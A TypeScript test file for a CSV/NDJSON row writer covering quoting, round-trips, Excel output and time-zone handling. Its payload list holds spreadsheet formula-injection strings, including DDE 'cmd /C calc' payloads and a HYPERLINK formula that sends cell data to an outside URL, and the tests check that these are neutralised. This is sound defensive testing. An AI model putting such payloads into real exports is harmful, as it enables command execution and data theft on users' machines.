import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isoWithOffset } from '../time/zone.ts';
import { type Cell, type RowWriter, rowWriter } from './write.ts';

const zone = 'Asia/Tokyo';
const csv = rowWriter({ format: 'csv', zone });
const rowOf = ({ row, cell }: RowWriter, cells: Cell[]) => row(cells.map(cell));

const payloads = [
  '=1+1',
  '+1',
  '-5.2',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  ' =1+1',
  '\u3000＝1+1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"click")',
  '-2+3+cmd|" /C calc"!A0',
  '\uFEFF=1',
];

test.for(payloads)('%j is text to a spreadsheet', (payload) => {
  const row = rowOf(csv, [payload, 1]);
  expect(parse(row)).toEqual([[`'${payload}`, '1']]);
  expect(row.replace(/^"/, '')).toMatch(/^'/);
});

test('numbers stay numbers, and nothing is nothing', () => {
  expect(rowOf(csv, [-5.2, 0, null, 1e5, '', 'a b'])).toBe('-5.2,0,,100000,,a b\n');
});

test('what can end or begin a cell is quoted', () => {
  expect(rowOf(csv, ['a,b', 'say "hi"', 'two\nlines', 'a;b', 'é'])).toBe('"a,b","say ""hi""","two\nlines","a;b",é\n');
});

/** Pieces that are awkward together. */
const text = fc
  .array(
    fc.oneof(
      fc.constantFrom('"', ',', ';', '\n', '\r\n', '\r', ' ', '=', "'", '@', '日本', '🤖'),
      fc.string({ unit: 'binary' }),
    ),
  )
  .map((pieces) => pieces.join(''));

test.for([false, true])('any text comes back from CSV, but for the apostrophe (Excel: %s)', (excel) => {
  const write = rowWriter({ format: 'csv', zone, excel });
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), (rows) => {
      const file = write.header(['a', 'b']) + rows.map((row) => rowOf(write, row)).join('');
      const [header, ...back] = parse(file, { bom: true, record_delimiter: excel ? '\r\n' : '\n' });
      expect(header).toEqual(['a', 'b']);
      expect(back).toHaveLength(rows.length);
      for (const [at, row] of rows.entries()) {
        for (const [column, given] of row.entries()) expect([given, `'${given}`]).toContain(back[at]?.[column]);
      }
    }),
  );
});

test('any row comes back from NDJSON, one line each', () => {
  const write = rowWriter({ format: 'ndjson', zone });
  expect(write.header(['a', 'b "quoted"'])).toBe('');
  const cell: fc.Arbitrary<Cell> = fc.oneof(text, fc.integer(), fc.constant(null));
  fc.assert(
    fc.property(cell, cell, (a, b) => {
      const line = rowOf(write, [a, b]);
      expect(line.indexOf('\n')).toBe(line.length - 1);
      expect(JSON.parse(line)).toEqual({ a, 'b "quoted"': b });
    }),
  );
});

test('whole 1/100 come out as the decimals they are', () => {
  const json = rowWriter({ format: 'ndjson', zone });
  for (const value of [0, 5, 10, 2150, 9999, 10_000, 123_456_789, -1, -520]) {
    expect([csv.hundredths(value), json.hundredths(value)]).toEqual([String(value / 100), String(value / 100)]);
  }
  expect([csv.hundredths(null), json.hundredths(null)]).toEqual(['', 'null']);
  expect(JSON.parse(json.time(0))).toBe('1970-01-01T09:00:00+09:00');
});

test('Excel gets a byte order mark, CRLF and times without offset', () => {
  const write = rowWriter({ format: 'csv', zone, excel: true });
  const ts = Date.parse('2026-11-22T09:42:31Z') / 1000;
  expect(write.header(['time']) + write.row([write.time(ts)])).toBe('\uFEFFtime\r\n2026/11/22 18:42:31\r\n');
});

test('times are those of isoWithOffset, in whatever order they come', () => {
  const from = Date.parse('2025-03-01T00:00:00Z') / 1000;
  const instants = fc.array(fc.integer({ min: from, max: from + 300 * 86_400 }), { minLength: 1, maxLength: 20 });
  const zones = fc.constantFrom(
    'Asia/Tokyo',
    'America/New_York',
    'Australia/Lord_Howe',
    'America/Santiago',
    'Asia/Kathmandu',
  );
  fc.assert(
    fc.property(instants, zones, (times, zone) => {
      const { time } = rowWriter({ format: 'csv', zone });
      for (const ts of times)
        for (const near of [ts, ts + 1, ts + 600]) expect(time(near)).toBe(isoWithOffset(near, zone));
    }),
  );
});

test.for([
  ['America/New_York', '2025-11-02T06:00:00Z'],
  ['Australia/Lord_Howe', '2025-04-05T15:00:00Z'],
  ['Africa/Cairo', '2025-04-24T22:00:00Z'],
] as const)('around the clock change of %s every second is told apart', ([zone, change]) => {
  const { time } = rowWriter({ format: 'csv', zone });
  const around = Array.from({ length: 400 }, (_, at) => Date.parse(change) / 1000 - 7200 + at * 37);
  expect(around.map((ts) => Date.parse(time(ts)) / 1000)).toEqual(around);
});
